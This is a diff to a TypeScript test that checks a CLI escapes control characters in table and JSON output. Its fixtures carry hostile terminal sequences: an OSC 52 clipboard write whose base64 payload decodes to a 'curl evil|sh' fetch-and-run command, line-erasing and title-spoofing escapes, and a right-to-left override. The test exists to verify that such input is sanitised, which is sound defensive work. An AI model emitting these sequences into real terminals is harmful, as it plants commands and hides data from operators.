@@ -81,7 +81,8 @@ test('tables print control characters of values as escapes: a service name or ra
   t.after(() => agg.close());
   // what the plugin sends with hash_credentials false for a client-set x-auth-sub header:
   // OSC 52 (write the operator's clipboard), then erase the line and move up (hide rows)
-  const credential = '\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2K\u001b[1A\u009b2J';
+  const credential = '\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2K\u001b[1A\u009b2J\u202e';
+  // (and a right-to-left override: the rest of a row shown reversed)
   const service = 'orders\u001b]0;all clear\u0007';
   const now = Date.now();
   const records = [];
@@ -107,12 +108,12 @@ test('tables print control characters of values as escapes: a service name or ra
     },
   ] as unknown as Parameters<typeof listTable>[0]);
   for (const out of [findings.stdout, top.stdout, decisions]) {
-    assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, JSON.stringify(out));
+    assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, JSON.stringify(out));
     assert.match(out, /orders\\u001b\]0;all clear\\u0007/);
   }
   assert.match(
     findings.stdout,
-    /^credential_ips +orders\\u001b\]0;all clear\\u0007 +\\u001b\]52;c;Y3VybCBldmlsfHNo\\u0007\\u001b\[2K\\u001b\[1A\\u009b2J +4 /m,
+    /^credential_ips +orders\\u001b\]0;all clear\\u0007 +\\u001b\]52;c;Y3VybCBldmlsfHNo\\u0007\\u001b\[2K\\u001b\[1A\\u009b2J\\u202e +4 /m,
   );
   // --json: the same values once parsed, and no raw control character either (JSON.stringify leaves U+009B, a CSI, raw)
   for (const args of [
@@ -121,7 +122,7 @@ test('tables print control characters of values as escapes: a service name or ra
   ]) {
     const out = await runCli([...args, '--url', agg.url], { env });
     assert.equal(out.code, 0, out.stderr);
-    assert.doesNotMatch(out.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, args.join(' '));
+    assert.doesNotMatch(out.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, args.join(' '));
     assert.ok(out.stdout.includes('\\u009b2J') || args[0] === 'top', 'the C1 CSI as an escape');
     assert.ok(JSON.stringify(JSON.parse(out.stdout)).includes(service.slice(0, 6)));
   }
